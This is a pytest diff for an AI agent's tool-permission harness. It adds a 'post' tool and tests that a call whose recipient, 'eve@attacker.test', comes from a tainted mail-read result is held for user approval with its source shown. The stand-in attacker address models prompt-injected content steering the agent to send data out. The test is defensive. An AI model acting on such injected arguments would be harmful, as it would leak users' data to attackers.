@@ -62,11 +62,13 @@ class House:
         self.sender = FakeTool(
             "send", facts=CallFacts(), requires_authority=True, capabilities=offered
         )
+        self.poster = FakeTool("post", facts=CallFacts(), capabilities=offered)
         self.search = FakeTool("look_up", facts=free, idempotent=True, capabilities=offered)
         self.events: list[str] = []
         rated = ToolConfig(connector_id="mail", risk_default=RiskLevel.low)
         registry.register(self.reader, rated.model_copy(update={"result_taint": taint}))
         registry.register(self.sender, rated)
+        registry.register(self.poster, rated)
         registry.register(self.search, rated)
 
 
@@ -94,8 +96,9 @@ def send(to: str = ALICE, text: str = LETTER) -> CallTool:
 @pytest.mark.proves("B9-EXTERNAL-ARGUMENTS-ASK")
 async def test_a_call_with_words_from_outside_asks_and_shows_them_and_where_they_are_from() -> None:
     channel = Answering("decline")
-    house, _ = await play(channel, read(), send("eve@attacker.test"))
-    assert house.sender.calls == []
+    wanted = CallTool("post", {"to": "eve@attacker.test"})  # low risk, and no authority needed
+    house, _ = await play(channel, read(), wanted)
+    assert house.poster.calls == []
     assert "to: a result of read_mail" in channel.shown()
     assert "| eve@attacker.test" in channel.shown()
 
